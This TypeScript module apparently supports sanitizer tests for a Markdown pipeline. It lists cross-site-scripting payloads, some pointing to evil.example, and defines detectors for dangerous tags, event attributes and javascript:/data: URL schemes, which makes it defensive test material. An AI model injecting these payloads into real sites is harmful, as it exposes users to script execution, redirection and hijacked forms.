import { htmlToHast } from 'satteri';

/** Kinds of hidden script; each one ran in at least one Markdown pipeline that was tried. */
export const payloads = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '[x](javascript:alert(1))',
  '<a href="javascript:alert(1)">x</a>',
  '<javascript:alert(1)>',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '<svg onload=alert(1)></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<details open ontoggle=alert(1)>x</details>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<!-- --><script>alert(1)</script> -->',
  '<video><source onerror="alert(1)"></video>',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox(1))',
  '[x](java\tscript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '<object data="data:text/html,x"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=q></form>',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<style>@import "https://evil.example"</style>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '[x](//evil.example/a)',
  '`<script>alert(1)</script>`\n\n    <script>alert(2)</script>',
  ':::hop{tieu-de="\\"><script>alert(1)</script>"}\nx\n:::',
  '::hinh{tep="javascript:alert(1)" mo-ta="<script>" chu-thich="x" nguon="y"}',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>x</script> |',
];

/** Tags that Markdown never makes. Templates of the site use svg and script; payloads must not get them through. */
const TAGS = new Set(
  'script iframe svg math object embed form base link meta style video audio source body template'.split(
    ' ',
  ),
);
const SCHEMES = /^\s*(?:javascript|data|vbscript|file):|^\s*(?:\/\/|\/\\|\\)/i;

/** Everything in a piece of HTML that could run or load something, found with an HTML parser. */
export function activeMarkup(html: string, allowedTags: readonly string[] = []): string[] {
  const found: string[] = [];
  const visit = (node: HastLike) => {
    const { tagName = '', properties = {} } = node;
    if (TAGS.has(tagName) && !allowedTags.includes(tagName)) found.push(`<${tagName}>`);
    for (const [name, value] of Object.entries(properties)) {
      if (/^on/i.test(name) || /^(?:style|srcDoc|formAction)$/i.test(name))
        found.push(`${tagName} ${name}`);
      if (/^(?:href|src|xLinkHref|action|data)$/i.test(name) && SCHEMES.test(String(value)))
        found.push(`${name}=${value}`);
    }
    for (const child of node.children ?? []) visit(child);
  };
  visit(htmlToHast(html, { fragment: true }) as HastLike);
  return found;
}

/** Script elements that a browser would run at once. */
export function untypedScripts(html: string): HastLike[] {
  const all = (node: HastLike): HastLike[] => [node, ...(node.children ?? []).flatMap(all)];
  return all(htmlToHast(html, { fragment: true }) as HastLike).filter(
    ({ tagName, properties }) => tagName === 'script' && properties?.type === undefined,
  );
}

interface HastLike {
  tagName?: string;
  properties?: Record<string, unknown>;
  children?: HastLike[];
}
